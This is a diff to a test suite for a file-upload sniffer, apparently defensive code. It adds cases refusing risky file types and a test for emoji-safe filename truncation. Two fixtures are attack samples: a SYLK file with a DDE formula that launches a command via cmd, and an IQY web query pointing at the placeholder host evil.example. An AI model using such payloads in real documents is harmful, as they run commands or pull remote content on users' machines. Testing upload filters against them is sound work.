@@ -101,6 +101,10 @@ describe('refused content', () => {
     ['doc.pdf', docx(), /name says PDF document but the content is Word document/],
     ['text.png', Buffer.from('hello'), /name says PNG image but the content is plain text/],
     ['macro.docm', docx(), /\.docm are not accepted/],
+    ['budget.slk', Buffer.from('ID;P\nC;Y1;X1;K0;ECMD|\' /C calc\'!A0\nE\n'), /\.slk are not accepted/],
+    ['q.iqy', Buffer.from('WEB\n1\nhttp://evil.example/x\n'), /\.iqy are not accepted/],
+    ['run.command', Buffer.from('echo hello\n'), /\.command are not accepted/],
+    ['open.settingcontent-ms', Buffer.from('<PCSettings/>'), /\.settingcontent-ms are not accepted/],
   ])('when %s is uploaded, then it is refused with a reason', (name, bytes, reason) => {
     const verdict = sniffBuffer(bytes, name);
     expect(verdict.ok).toBe(false);
@@ -126,5 +130,13 @@ describe('file names', () => {
     const clean = sanitiseFilename(`${'x'.repeat(500)}.pdf`);
     expect(clean).toHaveLength(200);
     expect(clean.endsWith('.pdf')).toBe(true);
+  });
+
+  test('when the cut falls inside an emoji, then the whole emoji goes and the name stays valid text', () => {
+    const clean = sanitiseFilename(`${'a'.repeat(194)}😀😀 holiday.pdf`);
+    expect(clean.length).toBeLessThanOrEqual(200);
+    expect(clean.endsWith('.pdf')).toBe(true);
+    expect(clean.isWellFormed()).toBe(true);
+    expect(clean).toBe(`${'a'.repeat(194)}😀.pdf`);
   });
 });
